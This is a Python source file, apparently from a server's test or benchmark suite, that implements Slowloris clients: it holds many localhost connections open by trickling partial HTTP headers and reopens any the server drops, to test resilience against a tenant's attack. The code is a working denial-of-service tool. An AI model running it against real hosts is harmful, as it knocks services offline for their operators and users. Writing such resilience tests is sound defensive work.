"""Slowloris clients: connections that send a request's headers one line at a time.

    python -m bench.slowloris.slow_clients PORT COUNT [--interval S] [--seconds S]

opens COUNT connections to 127.0.0.1:PORT, sends each a request line and the first header,
prints ``open COUNT`` once all are connected, then sends one more header line on each
every ``--interval`` seconds (never the blank line that ends the headers), reopening what
the server closes, until ``--seconds`` have passed or its standard input closes. Run as a
job's account, it is the attack of a tenant's job; the tests and bench.slowloris start it.
Standard library only: a job's Python has nothing else.
"""

from __future__ import annotations

import argparse
import os
import resource
import selectors
import socket
import sys
import threading
import time

REQUEST_START = b"GET /api/v1/me/ HTTP/1.1\r\nHost: localhost\r\n"


def raise_open_files(wanted: int) -> None:
    """Raise this process's RLIMIT_NOFILE's soft limit towards ``wanted`` (to the hard one)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    ceiling = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if soft < ceiling:
        resource.setrlimit(resource.RLIMIT_NOFILE, (ceiling, hard))


def connect(port: int) -> socket.socket | None:
    try:
        connection = socket.create_connection(("127.0.0.1", port), timeout=5)
        connection.sendall(REQUEST_START)
    except OSError:
        return None
    connection.setblocking(False)
    return connection


def trickle(port: int, count: int, interval: float, seconds: float, stop: threading.Event) -> None:
    """Hold ``count`` slow requests open until ``stop`` or ``seconds`` pass."""
    connections = [connection for _ in range(count) if (connection := connect(port))]
    print(f"open {len(connections)}", flush=True)
    deadline = time.monotonic() + seconds
    line = 0
    while not stop.wait(interval) and time.monotonic() < deadline:
        line += 1
        alive = []
        for connection in connections:
            try:
                connection.send(f"X-Slow-{line}: {line}\r\n".encode())
                alive.append(connection)
            except OSError:  # the server gave up on it: come back, as an attacker would
                connection.close()
                if replacement := connect(port):
                    alive.append(replacement)
        connections = alive
    for connection in connections:
        connection.close()


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("port", type=int)
    parser.add_argument("count", type=int)
    parser.add_argument("--interval", type=float, default=5.0)
    parser.add_argument("--seconds", type=float, default=120.0)
    args = parser.parse_args(argv)
    raise_open_files(args.count + 64)
    stop = threading.Event()

    def until_stdin_closes() -> None:
        with selectors.DefaultSelector() as selector:
            selector.register(sys.stdin, selectors.EVENT_READ)
            while not stop.is_set():
                if selector.select(timeout=0.5) and not os.read(sys.stdin.fileno(), 4096):
                    stop.set()

    threading.Thread(target=until_stdin_closes, daemon=True).start()
    trickle(args.port, args.count, args.interval, args.seconds, stop)


if __name__ == "__main__":
    main()
